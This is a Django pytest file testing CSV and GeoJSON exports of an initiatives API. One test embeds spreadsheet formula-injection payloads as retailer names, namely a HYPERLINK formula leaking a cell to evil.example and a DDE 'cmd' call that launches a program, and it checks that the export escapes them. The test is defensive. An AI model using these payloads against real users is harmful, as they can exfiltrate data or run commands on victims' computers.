import csv
import io
import json

import pytest
from django.http import StreamingHttpResponse

from api.exports import CSV_COLUMNS
from api.items import EXPORT_CHUNK_SIZE
from registry.models import Status
from registry.validators import LATITUDE_RANGE, LONGITUDE_RANGE
from tests.factories import (
    AssessmentFactory,
    CommuneFactory,
    DepartementFactory,
    InitiativeFactory,
    LabelFactory,
    ProductCategoryFactory,
    StoredAssessmentFactory,
)

pytestmark = pytest.mark.django_db

LIST_URL = "/api/v1/initiatives/"


def body(response) -> str:
    assert response.status_code == 200, response.content
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content).decode("utf-8")


def csv_text(response) -> str:
    """The CSV without its byte-order mark, which every CSV export starts with."""
    text = body(response)
    assert text.startswith("\ufeff")
    return text.removeprefix("\ufeff")


def csv_rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(csv_text(response))))


def test_csv_has_stable_columns_and_one_row_per_initiative(api):
    initiative = InitiativeFactory(name="Épicerie « Chez Zoé », Foix", opening_hours="Lun\nMar")
    initiative.products.set(
        [ProductCategoryFactory(), ProductCategoryFactory(code="CREMERIE", name="Crèmerie")]
    )
    initiative.labels.set([LabelFactory()])
    StoredAssessmentFactory(initiative=initiative, score=62.5, max_score=100)
    InitiativeFactory(name="Sans évaluation")

    response = api.get(LIST_URL, {"format": "csv"})

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    text = csv_text(response)
    assert next(csv.reader(io.StringIO(text))) == CSV_COLUMNS
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 2
    row = next(r for r in rows if r["id"] == initiative.slug)
    assert row["nom"] == "Épicerie « Chez Zoé », Foix"
    assert row["horaires"] == "Lun\nMar"
    assert row["code_insee"] == "31555" and row["departement"] == "31"
    assert (row["latitude"], row["longitude"]) == ("43.6", "1.44")
    assert sorted(row["familles_produits"].split("|")) == ["CREMERIE", "FRUITS_LEGUMES"]
    assert row["labels"] == "AB"
    assert (row["eligible"], row["verdict"], row["score"]) == ("true", "eligible", "62.5")
    assert row["url"] == f"http://testserver/initiatives/{initiative.slug}/"
    unassessed = next(r for r in rows if r["nom"] == "Sans évaluation")
    assert (unassessed["eligible"], unassessed["score"]) == ("", "")


def test_csv_cells_cannot_run_as_spreadsheet_formulas(api):
    """A retailer chooses the name: a formula in it must reach the spreadsheet as text."""
    link = '=HYPERLINK("http://evil.example/?"&A1,"Voir la fiche")'
    command = "=cmd|' /C calc'!A0"
    StoredAssessmentFactory(
        initiative=InitiativeFactory(
            name=link, opening_hours="@SUM(1+1)", phone="+33 5 61 00 00 00"
        ),
        score=62.5,
    )
    InitiativeFactory(name=command, latitude=43.1, longitude=-0.5)

    response = api.get(LIST_URL, {"format": "csv"})

    raw = b"".join(response.streaming_content)
    assert raw.startswith("\ufeff".encode())
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(raw.decode("utf-8-sig")))}
    linked = next(row for row in rows.values() if row["nom"].endswith(link))
    assert linked["nom"] == "'" + link
    assert linked["horaires"] == "'@SUM(1+1)"
    assert linked["telephone"] == "'+33 5 61 00 00 00"
    assert linked["score"] == "62.5"  # numbers stay numbers
    other = next(row for row in rows.values() if row["nom"].endswith(command))
    assert other["nom"] == "'" + command
    assert other["longitude"] == "-0.5"


def test_csv_honours_the_filters_and_returns_every_page(api):
    gers = DepartementFactory(code="32", name="Gers")
    auch = CommuneFactory(insee_code="32013", name="Auch", departement=gers, postal_codes=["32000"])
    for n in range(7):
        AssessmentFactory(
            initiative=InitiativeFactory(name=f"Gers {n}", commune=auch, postal_code="32000")
        )
    AssessmentFactory(
        initiative=InitiativeFactory(name="Gers non éligible", commune=auch, postal_code="32000"),
        not_eligible=True,
    )
    AssessmentFactory(initiative=InitiativeFactory(name="Toulouse"))
    InitiativeFactory(name="Brouillon", status=Status.DRAFT)

    rows = csv_rows(
        api.get(
            LIST_URL, {"format": "csv", "departement": "32", "eligible": "true", "page_size": 2}
        )
    )

    assert sorted(r["nom"] for r in rows) == [f"Gers {n}" for n in range(7)]


def test_csv_keeps_the_requested_order(api):
    StoredAssessmentFactory(initiative=InitiativeFactory(name="Moyenne"), score=50)
    StoredAssessmentFactory(initiative=InitiativeFactory(name="Haute"), score=90)
    StoredAssessmentFactory(initiative=InitiativeFactory(name="Basse"), score=10)

    rows = csv_rows(api.get(LIST_URL, {"format": "csv", "ordering": "-score"}))

    assert [r["nom"] for r in rows] == ["Haute", "Moyenne", "Basse"]


def test_csv_streams_in_chunks_with_a_bounded_number_of_queries(
    api, django_assert_max_num_queries, monkeypatch
):
    monkeypatch.setattr("api.items.EXPORT_CHUNK_SIZE", 10)
    for _ in range(25):
        InitiativeFactory().products.set([ProductCategoryFactory()])

    # ETag summary, ids, then 3 queries per chunk of 10.
    with django_assert_max_num_queries(2 + 3 * 3):
        rows = csv_rows(api.get(LIST_URL, {"format": "csv"}))

    assert len(rows) == 25
    assert EXPORT_CHUNK_SIZE >= 500


def test_geojson_is_a_feature_collection_with_longitude_first(api):
    initiative = InitiativeFactory(name="Au marché", latitude=43.6047, longitude=1.4442)
    AssessmentFactory(initiative=initiative)
    nowhere = CommuneFactory(insee_code="31999", name="Sans point", latitude=None, longitude=None)
    InitiativeFactory(name="Sans position", commune=nowhere, latitude=None, longitude=None)

    response = api.get(LIST_URL, {"format": "geojson"})

    assert response["Content-Type"] == "application/geo+json; charset=utf-8"
    collection = json.loads(body(response))
    assert collection["type"] == "FeatureCollection"
    features = {f["properties"]["name"]: f for f in collection["features"]}
    point = features["Au marché"]
    assert point["type"] == "Feature"
    assert point["geometry"] == {"type": "Point", "coordinates": [1.4442, 43.6047]}
    longitude, latitude = point["geometry"]["coordinates"]
    assert LONGITUDE_RANGE[0] <= longitude <= LONGITUDE_RANGE[1]
    assert LATITUDE_RANGE[0] <= latitude <= LATITUDE_RANGE[1]
    assert point["properties"]["verdict"] == "eligible"
    assert "latitude" not in point["properties"]
    assert features["Sans position"]["geometry"] is None


def test_geojson_honours_the_filters(api):
    AssessmentFactory(initiative=InitiativeFactory(name="Oui"))
    AssessmentFactory(initiative=InitiativeFactory(name="Non"), not_eligible=True)

    collection = json.loads(body(api.get(LIST_URL, {"format": "geojson", "eligible": "true"})))

    assert [f["properties"]["name"] for f in collection["features"]] == ["Oui"]


def test_an_empty_export_is_still_valid(api):
    assert json.loads(body(api.get(LIST_URL, {"format": "geojson"}))) == {
        "type": "FeatureCollection",
        "features": [],
    }
    assert csv_rows(api.get(LIST_URL, {"format": "csv"})) == []


def test_export_errors_are_explained_in_json(api):
    response = api.get(LIST_URL, {"format": "csv", "departement": "75"})

    assert response.status_code == 400
    assert response["Content-Type"].startswith("application/json")
    assert response.json()["departement"]


def test_exports_support_conditional_requests(api):
    InitiativeFactory()
    first = api.get(LIST_URL, {"format": "csv"})
    body(first)

    again = api.get(LIST_URL, {"format": "csv"}, HTTP_IF_NONE_MATCH=first["ETag"])

    assert again.status_code == 304


def test_an_unknown_format_is_refused(api):
    assert api.get(LIST_URL, {"format": "xml"}).status_code == 404


def test_exports_exist_only_on_the_list(api):
    initiative = InitiativeFactory()

    response = api.get(f"/api/v1/initiatives/{initiative.slug}/", {"format": "csv"})

    assert response.status_code == 404


def test_fast_rows_match_the_documented_serializer(api, rf):
    """List pages and exports are built without the serializer, for speed: same output."""
    from api.initiatives import list_queryset
    from api.items import InitiativeSerializer, list_items

    with_everything = InitiativeFactory(name="Complète", address="1 place du Capitole")
    with_everything.products.set(
        [ProductCategoryFactory(), ProductCategoryFactory(code="CREMERIE")]
    )
    with_everything.labels.set([LabelFactory(), LabelFactory(code="HVE", name="HVE")])
    StoredAssessmentFactory(initiative=with_everything, score=71.25, max_score=100)
    InitiativeFactory(name="Vide", latitude=None, longitude=None)
    request = rf.get("/api/v1/initiatives/")

    objects = list(list_queryset().with_references())
    expected = InitiativeSerializer(objects, many=True, context={"request": request}).data

    assert list(list_items([o.pk for o in objects], request)) == [dict(row) for row in expected]
